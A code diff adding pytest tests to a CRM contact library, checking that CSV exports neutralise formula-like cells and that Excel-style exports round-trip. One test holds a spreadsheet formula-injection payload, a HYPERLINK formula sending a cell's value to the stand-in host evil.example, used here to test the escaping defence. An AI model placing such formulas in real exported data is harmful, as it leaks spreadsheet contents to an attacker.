@@ -7,6 +7,7 @@ from pathlib import Path
 import pytest
 
 from crmdata import CrmDataError, Store
+from crmdata.csvio.writer import CsvOptions
 from crmdata.model import BASE_COLUMNS, INFO_CAPTIONS, INFO_COLUMNS
 
 from .helpers import HEADERS, oo_text, write_oo
@@ -99,3 +100,48 @@ def test_export_shows_only_what_the_user_may_view(store: Store, tmp_path: Path) 
 def test_export_to_a_missing_folder(store: Store, tmp_path: Path) -> None:
     with pytest.raises(CrmDataError, match="does not exist"):
         store.export_onlyoffice(tmp_path / "no" / "out.csv")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_formula_cells_are_neutralised_and_the_round_trip_is_exact(tmp_path: Path) -> None:
+    rows = [dict(ZETA, **{"Company Name": FORMULA, "Note": "@SUM(A1)", "Phone (work)": "+49 30 1234567",
+                          "Contact Tag List": "-vip"}),
+            dict(FULL, **{"Company/Person": "Person", "First Name": "''=own apostrophe", "Last Name": "-5"})]
+    (tmp_path / "in.csv").write_text(oo_text(rows), encoding="utf-8")
+    first = Store(tmp_path / "one.duckdb")
+    assert first.import_onlyoffice(tmp_path / "in.csv").imported == 2
+    assert FORMULA in set(first.contacts().display_name)  # the import stores what was written
+    first.export_onlyoffice(tmp_path / "out1.csv")
+    text = (tmp_path / "out1.csv").read_text(encoding="utf-8")
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text
+    assert '"\'@SUM(A1)"' in text and '"\'+49 30 1234567"' in text and '"\'-vip"' in text
+    assert '"\'\'=own apostrophe","-5"' in text
+    second = Store(tmp_path / "two.duckdb")
+    second.import_onlyoffice(tmp_path / "out1.csv")
+    assert FORMULA in set(second.contacts().display_name)
+    assert "'=own apostrophe -5" in set(second.contacts().display_name)
+    second.export_onlyoffice(tmp_path / "out2.csv")
+    assert (tmp_path / "out2.csv").read_bytes() == (tmp_path / "out1.csv").read_bytes()
+    first.export_onlyoffice(tmp_path / "raw.csv", options=CsvOptions(raw=True))
+    assert f'"{FORMULA.replace(chr(34), 2 * chr(34))}"' in (tmp_path / "raw.csv").read_text("utf-8")
+
+
+def test_excel_export_round_trips(tmp_path: Path) -> None:
+    (tmp_path / "in.csv").write_text(oo_text([dict(ZETA, Note="Grüße; bis bald"), ZETA | {
+        "Company Name": "Łódź Sp. z o.o."}]), encoding="utf-8")
+    first = Store(tmp_path / "one.duckdb")
+    first.import_onlyoffice(tmp_path / "in.csv")
+    first.export_onlyoffice(tmp_path / "excel.csv", options=CsvOptions.excel())
+    raw = (tmp_path / "excel.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbfCompany/Person;First Name;")
+    assert b'"Gr\xc3\xbc\xc3\x9fe; bis bald"' in raw
+    assert raw.count(b"\r\n") == 3
+    second = Store(tmp_path / "two.duckdb")
+    report = second.import_onlyoffice(tmp_path / "excel.csv")
+    assert report.imported == 2 and "separator ';' (detected)" in report.summary()
+    assert set(second.contacts().notes.dropna()) == {"Grüße; bis bald"}
+    with pytest.raises(CrmDataError, match=r"'Ł' \(U\+0141\), which cp1252 cannot hold"):
+        first.export_onlyoffice(tmp_path / "w.csv", options=CsvOptions(";", "cp1252", "\r\n"))
+    assert not (tmp_path / "w.csv").exists()
